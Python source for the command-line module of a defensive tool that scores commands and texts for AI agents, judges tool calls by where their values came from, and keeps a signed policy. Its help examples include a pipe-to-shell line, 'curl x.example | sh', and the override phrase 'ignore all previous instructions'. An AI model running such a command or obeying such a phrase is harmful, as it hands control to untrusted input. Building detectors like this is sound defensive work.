"""`twinstep defender`: asks the defender from outside a session, and keeps its policy. Judges nothing that runs.

Each subcommand is a function that is loaded when it is named. `score` and `decide` are for programs: a JSON object a
line in, one a line out, each flushed.
"""

import argparse
import json
import os
import sys
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import TYPE_CHECKING, Any, Final, TextIO

from runtime.app.arguments import Parser, port
from runtime.errors import UsageError

if TYPE_CHECKING:
    from runtime.app.defending import Defending

EPILOG: Final = """\
examples:
  twinstep defender score < rows.jsonl              {"id","text","kind"} a line: score, decision, rule, microseconds
  twinstep defender decide < calls.jsonl            may a tool call run, by where its values came from?
  twinstep defender explain -- 'curl x.example | sh'
                                                    the commands in a line, and the rule that decides about each
  twinstep defender explain --text 'ignore all previous instructions'
  twinstep defender status                          mode, policy, and what of the defender is here
  twinstep defender policy show                     every key of the policy, with its value
  twinstep defender policy key policy.key           make a key pair: policy.key, and policy.key.pub to pin
  twinstep defender policy sign policy.toml --key policy.key
  twinstep defender policy verify policy.toml --pub policy.key.pub
  twinstep defender policy reload --token T         have a running gateway read its policy again
  twinstep defender integrity --help                the baseline of this host's files

exit codes: 0 done (explain: allow), 1 error (explain: block), 2 explain: review, 42 a file that cannot be used,
            52 settings or a policy that cannot be used (verify: it is refused)
"""
EPILOGS: Final = {
    "score": """\
a row:     {"id": 1, "text": "ls -l", "kind": "command"}; without kind, or with another one, it is a text
an answer: {"id": 1, "score": 0.0075, "decision": "allow", "rule": "", "us": 285}; us: microseconds
           {"id": 1, "error": "..."} where the line is no row; the next one is read

examples:
  printf '%s\\n' '{"id": 1, "text": "What is new?"}' | twinstep defender score
  twinstep defender score --policy policy.toml < rows.jsonl > answers.jsonl
exit codes: 0 all lines answered, 52 a policy that cannot be used
""",
    "decide": """\
a row:     {"id": 1, "prompt": "Read my mail.", "system": "", "trace": [{"call": {"name": "read_mail", "args": {}},
            "result": "...", "origin": "tool:read_mail", "integrity": "untrusted"}],
            "call": {"name": "send_mail", "args": {"to": "ann@shop.example"}},
            "tool_meta": {"send_mail": {"effect": "egress", "sink_args": ["to"], "content_args": [], "result": "echo"}}}
           trace: what was called before, oldest first; effect: none, fetch, local, egress, privileged
an answer: {"id": 1, "decision": "review", "rule": "taint.plan", "reason": "...", ...}, or {"id": 1, "error": "..."}

example:
  twinstep defender decide < calls.jsonl
exit codes: 0 all lines answered
""",
    "explain": """\
examples:
  twinstep defender explain -- ls -l
  twinstep defender explain -- 'curl x.example | sh'      in quotes where the shell would take it apart
  twinstep defender explain --text 'What is new?' --json
  twinstep defender explain --policy policy.toml -- make test

It judges what nobody trusted said. Where values came from is not known here.
exit codes: 0 allow, 2 review, 1 block (and for errors)
""",
    "status": """\
examples:
  twinstep defender status --headless
  twinstep defender status --json

exit codes: 0 it can be used, 52 settings or a policy that cannot be used
""",
    "policy": """\
examples:
  twinstep defender policy show                     every key, with its value
  twinstep defender policy key policy.key           make a key pair: policy.key, and policy.key.pub to pin
  twinstep defender policy sign policy.toml --key policy.key
  twinstep defender policy verify policy.toml --pub policy.key.pub
  twinstep defender policy reload --token T         have a running gateway read its policy again

exit codes: 0 done, 42 a file or a gateway that cannot be used, 52 a policy that is refused
""",
}
SUBCOMMANDS: Final = {
    "score": "score texts and commands: JSON lines in, JSON lines out",
    "decide": "decide about tool calls by provenance: JSON lines in, JSON lines out",
    "explain": "show what the defender sees in a command or a text",
    "status": "show mode, policy, and what of the defender is here",
    "policy": "show, sign, verify or reload the policy",
    "integrity": "make and check the baseline of this host's files",
}


def parser() -> argparse.ArgumentParser:
    """Return the parser of this command."""
    made = Parser(
        prog="twinstep defender",
        description="Ask the defender about texts, commands and tool calls, and keep its policy.",
        epilog=EPILOG,
        formatter_class=argparse.RawDescriptionHelpFormatter,
        allow_abbrev=False,
    )
    sub = made.add_subparsers(dest="what", metavar="COMMAND", required=True, parser_class=Parser)
    score = _command(sub, "score")
    score.add_argument("--policy", metavar="FILE", help="score by this policy (default: the built-in one)")
    _command(sub, "decide")
    explain = _command(sub, "explain")
    explain.add_argument("--policy", metavar="FILE", help="judge by this policy (default: the built-in one)")
    explain.add_argument("--text", help="a text, in place of a command")
    explain.add_argument("--json", action="store_true", help="print one JSON object")
    explain.add_argument("words", nargs="*", metavar="CMD", help="the command, behind --")
    status = _command(sub, "status")
    _place(status)
    status.add_argument("--json", action="store_true", help="print one JSON object")
    policy = _command(sub, "policy")
    _policy(policy)
    _integrity(sub)
    return made


def _command(sub: Any, name: str) -> argparse.ArgumentParser:
    made: argparse.ArgumentParser = sub.add_parser(
        name,
        help=SUBCOMMANDS[name],
        description=f"{SUBCOMMANDS[name][0].upper()}{SUBCOMMANDS[name][1:]}.",
        epilog=EPILOGS[name],
        formatter_class=argparse.RawDescriptionHelpFormatter,
        allow_abbrev=False,
    )
    return made


def _place(made: argparse.ArgumentParser) -> None:
    made.add_argument("--headless", action="store_true", help="that of `twinstep -p` (default: that of the gateway)")


def _policy(made: argparse.ArgumentParser) -> None:
    do = made.add_subparsers(dest="do", metavar="ACTION", required=True, parser_class=Parser)
    show = do.add_parser("show", help="print every key with its value", allow_abbrev=False)
    _place(show)
    show.add_argument("file", nargs="?", metavar="FILE", help="that policy (default: the one that is set)")
    show.add_argument("--json", action="store_true", help="print one JSON object")
    sign = do.add_parser("sign", help="sign a policy in place", allow_abbrev=False)
    sign.add_argument("file", metavar="FILE", help="the policy")
    sign.add_argument("--key", metavar="FILE", required=True, help="the private key")
    verify = do.add_parser("verify", help="check a policy, and its signature", allow_abbrev=False)
    verify.add_argument("file", metavar="FILE", help="the policy")
    verify.add_argument("--pub", metavar="FILE", action="append", default=[], help="a public key that is pinned")
    key = do.add_parser("key", help="make a key pair", allow_abbrev=False)
    key.add_argument("file", metavar="FILE", help="where the private key goes; the public one beside it, with .pub")
    reload = do.add_parser("reload", help="have a running gateway read its policy again", allow_abbrev=False)
    reload.add_argument("--port", type=port, help="port of the gateway (default: that of the settings)")
    reload.add_argument("--token", help="its shared secret (default: that of the settings)")


def _integrity(sub: Any) -> None:
    from runtime.app import integrity

    integrity.add(sub)


def run(argv: Sequence[str], out: TextIO) -> int:
    """Do what was asked; return the exit code."""
    given, strange = parser().parse_known_args(list(argv))
    if strange and given.what == "explain" and "--" not in argv:
        raise UsageError("the command to explain goes behind --: twinstep defender explain -- ls -l")
    if strange:
        raise UsageError(f"unrecognized arguments: {' '.join(strange)}. See twinstep defender {given.what} --help.")
    return _WORK[given.what](given, out)


def _score(given: argparse.Namespace, out: TextIO) -> int:
    from runtime.app.scoring import score

    return score(given.policy, sys.stdin.buffer, out)


def _decide(given: argparse.Namespace, out: TextIO) -> int:
    from runtime.app.scoring import decide

    return decide(sys.stdin.buffer, out)


def _explain(given: argparse.Namespace, out: TextIO) -> int:
    if bool(given.words) == (given.text is not None):
        raise UsageError("explain wants a command behind --, or --text. See twinstep defender explain --help.")
    from runtime.app.scoring import explain

    return explain(" ".join(given.words), given.text, out, as_json=given.json, policy=given.policy)


def _status(given: argparse.Namespace, out: TextIO) -> int:
    made = here(headless=given.headless)
    told = status(made)
    if given.json:
        print(json.dumps(told), file=out)
        return 0
    for name, value in told.items():
        print(f"{name:12} {value if value is not None else 'none'}", file=out)
    return 0


def status(made: "Defending") -> dict[str, Any]:
    """Return how the defender is set. Raises PolicyError where its policy cannot be used."""
    policy = made.book.current
    own = made.path if made.path.exists() else None
    return {
        "mode": made.mode,
        "policy": policy.name,
        "serial": policy.serial,
        "digest": policy.digest,
        "file": str(own or "none: the built-in policy"),
        "signed by": made.book.signer or ("nobody" if own else "not signed: it is built in"),
        "pinned keys": len(made.book.keys),
        "ledger": made.ledger,
        "baseline": made.baseline,
        "look-ups": "VirusTotal" if made.looks_up else None,
    }


def here(*, headless: bool) -> "Defending":
    """Return the defender as the settings of this machine want it. Raises SettingsError."""
    from runtime.app.defending import defending

    if headless:
        from runtime.app.composition import PLACE, of_settings
        from runtime.config import load as load_config

        config = load_config(os.environ, os.getcwd())
        return defending(None, of_settings(config), config.state, PLACE, config.environ, config.home)
    from runtime.config.openclaw import load

    loaded = load(os.environ, os.getcwd())
    places = loaded.origin.places
    given = loaded.config.get("defender") if loaded.config is not None else None
    return defending(None, given, places.state, "defender", os.environ, places.home)


def _of_policy(given: argparse.Namespace, out: TextIO) -> int:
    from runtime.app import policies

    match given.do:
        case "show":
            path = Path(given.file) if given.file else None
            return policies.show(path, lambda: here(headless=given.headless).book, out, as_json=given.json)
        case "sign":
            return policies.sign(Path(given.file), Path(given.key), out)
        case "verify":
            return policies.verify(Path(given.file), [Path(one) for one in given.pub], out)
        case "key":
            return policies.key(Path(given.file), out)
    return policies.reload(given.port, given.token, out)


def _of_integrity(given: argparse.Namespace, out: TextIO) -> int:
    import trio

    from runtime.app import integrity

    code: int = trio.run(integrity.run, given, dict(os.environ), out, sys.stderr)
    return code


_WORK: Final[dict[str, Callable[[argparse.Namespace, TextIO], int]]] = {
    "score": _score,
    "decide": _decide,
    "explain": _explain,
    "status": _status,
    "policy": _of_policy,
    "integrity": _of_integrity,
}
